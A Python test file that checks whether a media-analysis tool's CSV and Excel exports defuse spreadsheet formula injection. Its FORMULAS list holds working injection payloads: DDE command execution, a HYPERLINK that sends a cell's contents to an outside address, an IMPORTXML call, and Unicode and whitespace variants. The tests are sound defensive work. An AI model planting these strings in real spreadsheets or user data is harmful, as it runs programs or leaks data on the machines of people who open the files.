"""Formula injection: no cell of a table that Evenhand writes runs in the spreadsheet that opens it.

Each test's docstring is an attack. The tables of `evenhand analyze`, CSV and Excel, are in `test_export.py`; the codebook's own
cells in `test_codebook.py`.
"""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from pathlib import Path

import pandas as pd
import pytest
from builders import relocated
from comparing import card, speaking

from analysis import export
from analysis.comparison import compare
from analysis.comparison.compared_columns import COMPARED
from analysis.comparison.tables import build, schemas
from analysis.export import csv as csv_export
from analysis.export.formula_guard import guard

#: DDE, addresses that carry a cell away, and signs that only some programs take for the beginning of a formula.
FORMULAS = [
    "=cmd|'/c calc'!A1", '=HYPERLINK("http://198.51.100.1/?"&A1,"more")', "+1+cmd|'/c calc'!A1", "-2+3", "@SUM(1+1)", "\t=1+1",
    "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "''=1+1", '=IMPORTXML("http://198.51.100.1","//a")',
]  # fmt: skip
STARTS = tuple("=+-@\t\r\n＝＋－＠")


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_name_that_is_a_formula_in_the_tables_of_a_comparison(tmp_path: Path, formula: str) -> None:
    """I sign my article, or let myself be quoted, as a formula; an editor compares it with others and opens the tables."""
    plain = [speaking(card("s1", formula), text=f"The ferry sailed at {hour}.") for hour in ("six", "seven")]
    named = [replace(one, article=replace(one.article, title=formula, outlet=formula)) for one in plain]
    csv_export.write([build([compare(named)], COMPARED)], schemas(COMPARED), tmp_path)
    texts = {table.name: [column.name for column in table.columns if column.kind == "string"] for table in COMPARED}
    found = 0
    for name, columns in texts.items():
        with (tmp_path / f"{name}.csv").open(encoding="utf-8", newline="") as file:
            for row in csv.DictReader(file):
                cells = [row[column] for column in columns]
                assert not any(cell.startswith(STARTS) for cell in cells), name
                found += guard(formula) in cells
    assert found


def test_a_label_of_a_lexicon_that_is_a_formula_in_the_codebook() -> None:
    """I share a lexicon; its label is a formula, and whoever uses it opens the codebook."""
    frame = pd.DataFrame({"variable": FORMULAS, "label": FORMULAS})
    rows = list(csv.reader(io.StringIO(export.codebook_csv(frame).decode("utf-8-sig"), newline="")))[1:]
    assert len(rows) == len(FORMULAS)
    assert not any(cell.startswith(STARTS) for row in rows for cell in row)


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_a_table_taken_from_the_dashboard(form: str) -> None:
    """My article's title is a formula; a visitor takes one table along from the dashboard."""
    data = export.table_bytes([relocated("The ferry sailed.", formula) for formula in FORMULAS], "articles", form)
    read = pd.read_csv(io.BytesIO(data)) if form == "csv" else pd.read_excel(io.BytesIO(data))
    assert not any(str(title).startswith(STARTS) for title in read["title"])
